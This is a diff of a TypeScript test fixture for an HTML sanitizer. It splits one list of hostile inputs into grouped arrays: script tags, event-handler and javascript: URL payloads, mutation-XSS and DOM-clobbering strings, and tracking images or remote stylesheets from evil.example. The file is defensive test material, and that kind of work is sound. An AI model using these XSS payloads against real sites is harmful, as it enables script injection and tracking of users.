@@ -1,9 +1,4 @@
-/**
- * Hostile input for tests of the sanitizer, such as classic filter evasion, other namespaces, mutation XSS on
- * re-parsing, encoded URL schemes and tracking images. `OWN` is the URL of an image that the author may show.
- */
-export const ATTACKS = (OWN: string): readonly string[] => [
-  // scripts
+const SCRIPTS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<ScRiPt>alert(1)</sCrIpT>',
@@ -16,7 +11,9 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   '<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>',
   '<script x>alert(1)</script y>',
   "<script>document.write('<scr')</script>ipt src=https://evil.example>",
-  // event handlers
+];
+
+const eventHandlers = (OWN: string): readonly string[] => [
   '<img src=x onerror=alert(1)>',
   `<img src="${OWN}" onload=alert(1)>`,
   `<img src="${OWN}"onerror="alert(1)">`,
@@ -41,7 +38,9 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   '<keygen autofocus onfocus=alert(1)>',
   '<xss onpointerenter=alert(1) style=display:block>x</xss>',
   '<div contenteditable onblur=alert(1) tabindex=1>x</div>',
-  // URL schemes
+];
+
+const URL_SCHEMES: readonly string[] = [
   '<a href="javascript:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
   '<a href="\x01javascript:alert(1)">x</a>',
@@ -77,7 +76,9 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   'javascript:alert(1)//https://example.com',
   'https://[::1]:99999/"><script>alert(1)</script>',
   '<b>https://example.com/?a=1&amp;b="><svg onload=alert(1)></b>',
-  // images
+];
+
+const images = (OWN: string): readonly string[] => [
   '<img src="javascript:alert(1)">',
   '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
   '<img src="https://evil.example/pixel.png">',
@@ -91,7 +92,9 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   `<picture><source srcset="https://evil.example/x.png"><img src="${OWN}"></picture>`,
   '<image src=x onerror=alert(1)>',
   '<input type="image" src="https://evil.example/x.png" onerror="alert(1)">',
-  // style
+];
+
+const STYLES: readonly string[] = [
   '<style>@import "https://evil.example/x.css";</style>',
   '<style>body{background:url("javascript:alert(1)")}</style>',
   '<p style="background:url(https://evil.example/x)">x</p>',
@@ -100,7 +103,10 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   '<span class="mention" data-type="mention" data-id="1" style="position:fixed">@x</span>',
   '<span class="mention fixed" data-type="mention" data-id="1 onclick=alert(1)">@x</span>',
   '<span class="mention" data-type="mention" data-id="javascript:alert(1)">@x</span>',
-  // frames, forms, documents
+];
+
+/** Frames, forms and elements of other documents. */
+const FRAMES_AND_FORMS: readonly string[] = [
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<iframe><img src=x onerror=alert(1)></iframe>',
@@ -118,7 +124,10 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   '<html><head><title><script>alert(1)</script></title></head></html>',
   '<portal src="https://evil.example">',
   '<dialog open onclose=alert(1)>x</dialog>',
-  // other namespaces and mutation XSS
+];
+
+/** Other namespaces and mutation XSS. */
+const OTHER_NAMESPACES: readonly string[] = [
   '<svg onload=alert(1)>',
   '<svg/onload=alert(1)//',
   '<svg><script>alert&#40;1&#41;</script></svg>',
@@ -153,7 +162,10 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
   '<table><tr><td><p><a href=https://example.com><table><a href="javascript:alert(1)">x',
   '<a href=https://example.com><p><a href=https://example.com><table><img src=x onerror=alert(1)>',
-  // comments, CDATA, processing instructions
+];
+
+/** Comments, CDATA and processing instructions. */
+const COMMENTS: readonly string[] = [
   '<!--<img src="--><img src=x onerror=alert(1)//">',
   '<!--><img src=x onerror=alert(1)>-->',
   '<!--!><script>alert(1)</script>-->',
@@ -164,7 +176,9 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   '<?xml version="1.0"?><script>alert(1)</script>',
   '<?import namespace="t" implementation="#default#time2"><p>x</p>',
   '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
-  // malformed markup
+];
+
+const MALFORMED: readonly string[] = [
   '<img src=x onerror=alert(1) ',
   '<p title="<img src=x onerror=alert(1)>',
   '"><img src=x onerror=alert(1)>',
@@ -179,4 +193,20 @@ export const ATTACKS = (OWN: string): readonly string[] => [
   `${'<blockquote>'.repeat(3000)}<script>alert(1)</script>`,
   '<p id=location name=body>clobber</p><a id=defaultView href="https://example.com">x</a>',
   '<constructor><p __proto__="x" constructor="y">x</p></constructor>',
+];
+
+/**
+ * Hostile input for tests of the sanitizer, such as classic filter evasion, other namespaces, mutation XSS on
+ * re-parsing, encoded URL schemes and tracking images. `OWN` is the URL of an image that the author may show.
+ */
+export const ATTACKS = (OWN: string): readonly string[] => [
+  ...SCRIPTS,
+  ...eventHandlers(OWN),
+  ...URL_SCHEMES,
+  ...images(OWN),
+  ...STYLES,
+  ...FRAMES_AND_FORMS,
+  ...OTHER_NAMESPACES,
+  ...COMMENTS,
+  ...MALFORMED,
 ];
